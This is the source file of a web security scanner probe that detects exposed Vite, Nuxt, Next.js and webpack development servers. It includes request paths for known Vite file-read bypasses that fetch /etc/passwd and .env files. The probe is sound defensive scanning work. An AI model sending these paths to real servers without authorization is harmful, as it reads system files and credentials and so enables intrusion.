import type { Exchange } from '../../evidence/facts/exchange.ts';
import { jsonValue, readVariables } from '../../evidence/parse/secrets/exposed-file.ts';
import { defineFileProbe, type FileMatch } from '../define-file-probe.ts';
import { marked } from '../marks.ts';
import { htmlAnswer, jsonAnswer, textAnswer } from '../scene-answers.ts';

const ABOUT = htmlAnswer(
  '<!doctype html><html><head><title>Shop</title></head><body>Built with Vite and webpack.</body></html>',
);
const PASSWD = /root:[^:\n"]{0,40}:0:0:/;
const RAW_PASSWD = marked('the server’s /etc/passwd', /^export default "/, PASSWD);
const RAW_EXAMPLE = textAnswer('export default "root:x:0:0:root:/root:/bin/bash\\n"', 'text/javascript');
const VITE_EXAMPLE = textAnswer('class HMRContext {}\nconsole.debug("[vite] connecting...");\n', 'text/javascript');

function viteClient({ text }: Exchange): FileMatch | undefined {
  return /class HMRContext|import\.meta\.hot|HMRClient/.test(text) && text.includes('vite') && !/^\s{0,20}</.test(text)
    ? { shows: 'Vite development server client' }
    : undefined;
}

/** The start of the data that a script embeds as a base64 URL. */
function embeddedText(script: string): string {
  return Buffer.from(script.split(';base64,', 2)[1]?.slice(0, 400) ?? '', 'base64').toString('latin1');
}

export default defineFileProbe({
  id: 'active/frameworks/development-server',
  title: 'Development servers are not exposed',
  why: 'A development server exposes the source code, and several versions serve any file on the machine.',
  topic: 'development build',
  profile: 'quick',
  problems: {
    running: {
      severity: 'high',
      message: 'Exposed development server',
      fix: 'Build the site (`vite build`, `next build`) and serve the build output. Never run `npm run dev` on a public address.',
    },
    files: {
      severity: 'critical',
      message: 'Arbitrary file read through an exposed development server',
      fix: 'Stop the development server immediately and serve a build. Rotate every key stored on the machine.',
    },
  },
  references: ['CWE-489', 'CVE-2025-30208', 'CVE-2025-31125', 'CVE-2025-31486', 'CVE-2026-39364', 'OWASP A05:2021'],
  twin: ABOUT,
  files: [
    {
      path: '/@vite/client',
      problem: 'running',
      proves: viteClient,
      example: VITE_EXAMPLE,
    },
    {
      path: '/_nuxt/@vite/client',
      problem: 'running',
      proves: viteClient,
      example: VITE_EXAMPLE,
    },
    {
      path: '/@fs/etc/passwd?.svg?.wasm?init',
      problem: 'files',
      proves: ({ text }) =>
        text.includes('initWasm(') && PASSWD.test(embeddedText(text))
          ? { shows: 'the server’s /etc/passwd' }
          : undefined,
      example: textAnswer(
        'export default opts => initWasm(opts, "data:application/octet-stream;base64,cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaAo=")',
        'text/javascript',
      ),
      twin: textAnswer(
        'export default opts => initWasm(opts, "data:application/wasm;base64,AGFzbQEAAAA=")',
        'text/javascript',
      ),
    },
    {
      path: '/@fs/etc/passwd?raw??',
      problem: 'files',
      proves: RAW_PASSWD,
      example: RAW_EXAMPLE,
      twin: htmlAnswer(
        '<h1>403 Restricted</h1><p>The request url "/etc/passwd" is outside of Vite serving allow list.</p>',
        403,
      ),
    },
    {
      path: '/@fs/etc/passwd?raw?import',
      problem: 'files',
      proves: RAW_PASSWD,
      example: RAW_EXAMPLE,
      twin: htmlAnswer('<h1>403 Restricted</h1>', 403),
    },
    {
      path: '/.env?import&raw',
      problem: 'files',
      proves: ({ text }) => {
        const [line = ''] = text.split('\n', 1);
        const file = line.startsWith('export default "') ? jsonValue(line.slice('export default '.length)) : undefined;
        const variables = typeof file === 'string' ? readVariables(file) : undefined;
        return variables ? { shows: `.env file with ${variables.names.length} variables` } : undefined;
      },
      example: textAnswer('export default "SESSION_SECRET=warm\\nPORT=3000\\n"\n', 'text/javascript'),
      twin: textAnswer('export default "/assets/env.svg"\n', 'text/javascript'),
    },
    {
      path: '/_next/static/development/_buildManifest.js',
      problem: 'running',
      proves: ({ text }) =>
        /self\.__BUILD_MANIFEST\s{0,4}=/.test(text.slice(0, 4000)) && !/^\s{0,20}</.test(text)
          ? { shows: 'manifest of a Next.js development build' }
          : undefined,
      example: textAnswer(
        'self.__BUILD_MANIFEST = {"/":[]};self.__BUILD_MANIFEST_CB && self.__BUILD_MANIFEST_CB()',
        'application/javascript',
      ),
    },
    {
      path: '/sockjs-node/info',
      problem: 'running',
      proves: marked(
        'webpack development server socket',
        /^\{"websocket":(?:true|false),"origins":\["\*:\*"\],"cookie_needed":(?:true|false),"entropy":\d/,
      ),
      example: jsonAnswer({ websocket: true, origins: ['*:*'], cookie_needed: false, entropy: 123456 }),
      twin: jsonAnswer({ websocket: true }),
    },
  ],
});
